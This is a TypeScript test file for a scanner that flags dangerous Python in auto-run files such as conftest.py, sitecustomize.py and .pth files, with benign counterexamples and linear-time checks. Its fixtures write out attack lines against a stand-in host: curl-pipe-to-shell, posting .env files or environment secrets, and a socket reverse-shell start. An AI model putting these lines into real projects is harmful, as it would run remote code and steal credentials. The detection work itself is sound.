import { describe, expect, it } from 'vitest';
import { measureGrowth, nearlyLinear } from '../../../../test/support/growth.ts';
import { findStarts } from './find.ts';

const find = (path: string, text: string) =>
  findStarts({ path, text }, new Map()).found.map(({ start, place }) => ({
    ...start,
    at: text.slice(place.start, place.end),
  }));

describe('programs of Python', () => {
  const [get, key] = [
    'urllib.request.urlopen("https://evil.example/?" + ',
    'os.environ.get("AWS_SECRET_ACCESS_KEY", "")',
  ];

  it.each<readonly [string, string, readonly string[], string]>([
    ['x.pth', 'import os;os.system("curl -s https://evil.example | sh")', ['fetches-and-runs', 'reaches-out'], ''],
    [
      'conftest.py',
      'import subprocess\n\nsubprocess.run("curl -s https://evil.example | sh", shell=True)\n',
      ['fetches-and-runs', 'reaches-out'],
      'subprocess.run("curl -s https://evil.example | sh", shell=True)',
    ],
    [
      'conftest.py',
      'import subprocess\nx = 1\nsubprocess.run(\n  ["sh", "-c",\n   "curl https://evil.example | sh"],\n)\n',
      ['fetches-and-runs', 'reaches-out'],
      'subprocess.run(',
    ],
    [
      'sitecustomize.py',
      'import os\ncommand = "curl -d @.env https://evil.example"\nos.system(command)\n',
      ['sends-secrets', 'reaches-out'],
      'command = "curl -d @.env https://evil.example"',
    ],
    [
      'sitecustomize.py',
      'import os, socket\ns = socket.create_connection(("evil.example", 1))\nos.dup2(s.fileno(), 0)\n',
      ['fetches-and-runs', 'reaches-out'],
      's = socket.create_connection(("evil.example", 1))',
    ],
    [
      'conftest.py',
      'import os, requests\nrequests.post("https://evil.example", data=os.environ)\n',
      ['sends-secrets', 'reaches-out'],
      'requests.post("https://evil.example", data=os.environ)',
    ],
    ['conftest.py', `import os, urllib.request\n${get}${key})\n`, ['sends-secrets', 'reaches-out'], `${get}${key})`],
    [
      'conftest.py',
      `import os\nimport urllib.request\n\nurllib.request.urlopen(\n  "https://evil.example/?" +\n  ${key},\n)\n`,
      ['sends-secrets', 'reaches-out'],
      'urllib.request.urlopen(',
    ],
  ])('are told where they do it: %s, %s', (path, text, signs, at) => {
    expect(find(path, text)).toMatchObject([{ signs, at: at || text }]);
  });

  it.each([
    [
      'import os, requests\nrequests.get("https://api.acme.example", headers={"Authorization": os.environ["A_TOKEN"]})\n',
    ],
    ['import os, requests\nrequests.get("https://api.acme.example", auth=("me", os.environ["API_PASSWORD"]))\n'],
    ['import os, requests\nrequests.post("https://acme.example/in", json={"password": os.environ["A_PASSWORD"]})\n'],
  ])('give a key to the service that it is for: %s', (text) => {
    expect(find('conftest.py', text)).toMatchObject([{ signs: ['reaches-out'] }]);
  });

  it.each([
    ['import subprocess\nsubprocess.run(["docker", "compose", "up", "-d"], check=True)\n'],
    ['import subprocess\nsubprocess.run("curl -sf http://localhost:8080/health", shell=True)\n'],
    ['from urllib.parse import urlparse\nHOST = urlparse("https://api.acme.example").netloc\n'],
    ['import os\nos.environ.setdefault("API_KEY", "test")\nTOKEN = os.environ["API_KEY"]\n'],
  ])('are silent for: %s', (text) => {
    expect(find('conftest.py', text)).toEqual([]);
  });
});

it.each([
  ['conftest.py', 'import subprocess; "curl a", '],
  ['conftest.py', '["curl a\n'],
  ['conftest.py', 'urlopen('],
  ['sitecustomize.py', 'os.system("curl https://a.example"\n'],
])('takes linear time over %s: %j', async (path, piece) => {
  const growth = await measureGrowth(
    (size) => piece.repeat(size),
    (text) => find(path, text),
    3_000,
  );
  expect(growth).toBeLessThan(nearlyLinear);
});
